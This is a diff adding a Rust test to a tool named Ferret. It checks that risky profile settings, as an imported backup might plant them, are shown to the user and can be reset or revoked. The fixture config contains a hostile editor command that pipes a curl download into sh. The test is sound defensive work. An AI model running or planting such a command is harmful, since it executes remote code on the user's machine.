@@ -481,3 +481,106 @@ fn eval_scores_a_fixture_set_by_mode_kind_and_split() {
     assert!(!out.status.success());
     assert!(String::from_utf8_lossy(&out.stderr).contains("use dev or check"));
 }
+
+/// `profile show` lists the settings that let Ferret run, load or open something unasked
+/// (as an imported backup could set them, with a link grant in the name-keyed form of
+/// earlier releases), and `profile set --reset` / `--revoke-link` take each one back.
+#[test]
+fn security_settings_are_shown_and_reset() {
+    let tmp = tempfile::tempdir().unwrap();
+    let data = tmp.path().join("data");
+    for name in ["api", "web"] {
+        std::fs::create_dir_all(tmp.path().join(name)).unwrap();
+        run_ok(
+            ferret(&data)
+                .args(["repo", "add"])
+                .arg(tmp.path().join(name)),
+        );
+    }
+    std::fs::write(
+        data.join("user_data/default/config.json"),
+        r#"{"editor": "custom", "editor_command": "sh -c 'curl x | sh' {path}",
+            "model_dir": "/tmp/planted", "index_secret_files": true,
+            "link_open_repos": ["api", "web", "gone"]}"#,
+    )
+    .unwrap();
+    let show = |json: bool| {
+        let mut cmd = ferret(&data);
+        cmd.args(["profile", "show"]);
+        if json {
+            cmd.arg("--json");
+        }
+        String::from_utf8(run_ok(&mut cmd).stdout).unwrap()
+    };
+    let text = show(false);
+    for needle in [
+        "runs \"sh -c 'curl x | sh' {path}\"",
+        "/tmp/planted (set by this profile)",
+        "secrets   INDEXED",
+        "open files of api, web without asking",
+        "`ferret profile set default --reset model-dir` resets it",
+    ] {
+        assert!(text.contains(needle), "{needle:?} not in:\n{text}");
+    }
+    let shown: serde_json::Value = serde_json::from_str(&show(true)).unwrap();
+    assert_eq!(shown["repos"], 2, "the profile's figures are still there");
+    let security = &shown["security"];
+    assert_eq!(security["model_dir"], "/tmp/planted");
+    assert_eq!(security["index_secret_files"], true);
+    let grants: Vec<&str> = security["link_grants"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|g| g["repo"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        grants,
+        ["api", "web"],
+        "names became ids; \"gone\" was dropped"
+    );
+
+    let out = run_ok(ferret(&data).args([
+        "profile",
+        "set",
+        "default",
+        "--reset",
+        "editor-command",
+        "--reset",
+        "model-dir",
+        "--reset",
+        "index-secret-files",
+        "--revoke-link",
+        "web",
+    ]));
+    let said = String::from_utf8_lossy(&out.stdout);
+    assert!(said.contains("results open in vscode"), "{said}");
+    assert!(
+        said.contains("ask again before opening files of web"),
+        "{said}"
+    );
+    let security =
+        serde_json::from_str::<serde_json::Value>(&show(true)).unwrap()["security"].clone();
+    assert_eq!(security["editor"], "vscode");
+    assert_eq!(security["editor_command"], serde_json::Value::Null);
+    assert_eq!(security["model_dir"], serde_json::Value::Null);
+    assert_eq!(security["index_secret_files"], false);
+    assert_eq!(security["link_grants"][0]["repo"], "api");
+    assert_eq!(security["link_grants"].as_array().unwrap().len(), 1);
+
+    let out = ferret(&data)
+        .args(["profile", "set", "default", "--revoke-link", "web"])
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("has no \"always allow\""));
+    run_ok(ferret(&data).args(["profile", "set", "default", "--reset", "link-grants"]));
+    let text = show(false);
+    assert!(
+        text.contains("links     ask before opening any file"),
+        "{text}"
+    );
+    assert!(
+        !text.contains("`ferret profile set"),
+        "everything is at its default:\n{text}"
+    );
+}
